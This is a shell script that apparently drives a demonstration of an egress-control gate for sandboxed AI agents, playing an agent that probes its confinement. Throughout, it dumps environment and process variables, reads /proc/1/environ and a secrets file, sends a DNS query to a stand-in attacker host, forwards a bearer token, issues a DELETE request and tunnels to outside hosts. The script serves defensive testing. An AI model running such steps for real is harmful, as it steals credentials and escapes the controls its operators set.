#!/bin/sh
# What the agent does in the demo, as UID 1000. Lines that start with "::" are for the narrator, who checks what they say.
# `prober do JSON` makes one connection (or whatever the JSON says) and prints what came of it.
say() { printf '::%s\n' "$*"; }
try() { prober do "$2" | while IFS= read -r line; do say result "$1" "$line"; done; }
pause() { say pause "$1"; read -r _; }
b64() { printf "$1" | base64 -w0; }

# Ways out that ask nobody. The narrator runs this part in a box without exitgate as well: there every one of them works.
query=EjQBAAABAAAAAAAAB3NlY3JldHMIYXR0YWNrZXIHZXhhbXBsZQAAAQAB # asks for secrets.attacker.example
direct() {
	try tcp4 '{"op":"tcp","address":"1.1.1.1:443","timeout":2000000000}'
	try tcp6 '{"op":"tcp","address":"[2606:4700:4700::1111]:443","timeout":2000000000}'
	try upstream '{"op":"tcp","address":"'"$UPSTREAM"':443","timeout":2000000000}'
	try udp '{"op":"udp","address":"1.1.1.1:53","data":"'"$query"'","read":512,"timeout":500000000}'
	try dns '{"op":"udp","address":"'"$RESOLVER"':53","data":"'"$query"'","read":512,"timeout":500000000}'
	try dnstcp '{"op":"tcp","address":"'"$RESOLVER"':53","timeout":2000000000}'
	try ping4 '{"op":"socket","domain":2,"type":2,"protocol":1,"address":"1.1.1.1:0","data":"CAAAAAABAAE=","read":64,"timeout":300000000}'
	try ping6 '{"op":"socket","domain":10,"type":2,"protocol":58,"address":"[2606:4700:4700::1111]:0","data":"gAAAAAABAAE=","read":64,"timeout":300000000}'
	try neighbour4 '{"op":"tcp","address":"127.0.0.1:9999","read":5,"timeout":2000000000}'
	try neighbour6 '{"op":"tcp","address":"[::1]:9999","read":5,"timeout":2000000000}'
}
if [ "$1" = direct ]; then
	direct
	exit
fi

listener=${ANTHROPIC_BASE_URL#http://}

pause secrets
say dump identity "$( (id; grep -E '^(Cap|NoNewPrivs)' /proc/self/status) | base64 -w0)"
say dump environment "$(env | base64 -w0)"
say dump processes "$(cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline /proc/[0-9]*/maps 2>/dev/null | tr '\0' '\n' | base64 -w0)"
try pid1 '{"op":"read","address":"/proc/1/environ"}'
try secret '{"op":"read","address":"/run/secrets/anthropic"}'

pause stream
body='{"stream":true}'
try stream '{"op":"http","address":"'"$listener"'","chunks":true,"data":"'"$(b64 "POST /v1/messages?n=5&ms=150 HTTP/1.1\r\nHost: $listener\r\nAuthorization: Bearer $ANTHROPIC_AUTH_TOKEN\r\nContent-Length: ${#body}\r\n\r\n$body")"'"}'
try delete '{"op":"http","address":"'"$listener"'","data":"'"$(b64 "DELETE /v1/files HTTP/1.1\r\nHost: $listener\r\n\r\n")"'"}'

pause connect
get=$(b64 "GET /reflect HTTP/1.1\r\nHost: registry.npmjs.org\r\n\r\n")
try connect '{"op":"http","address":"'"$listener"'","tunnel":"registry.npmjs.org:443","server_name":"registry.npmjs.org","data":"'"$get"'"}'
try telemetry '{"op":"http","address":"'"$listener"'","tunnel":"telemetry.example.com:443","server_name":"telemetry.example.com","data":"'"$get"'"}'

pause direct
direct

pause revoke
try revoked '{"op":"hold","address":"'"$listener"'","tunnel":"files.example.com:443","server_name":"files.example.com","data":"'"$get"'","every":5000000,"timeout":5000000000}' &
try kept '{"op":"hold","address":"'"$listener"'","tunnel":"registry.npmjs.org:443","server_name":"registry.npmjs.org","data":"'"$get"'","every":5000000,"timeout":1500000000}' &
wait
try again '{"op":"http","address":"'"$listener"'","tunnel":"files.example.com:443","server_name":"files.example.com","data":"'"$get"'"}'
say end
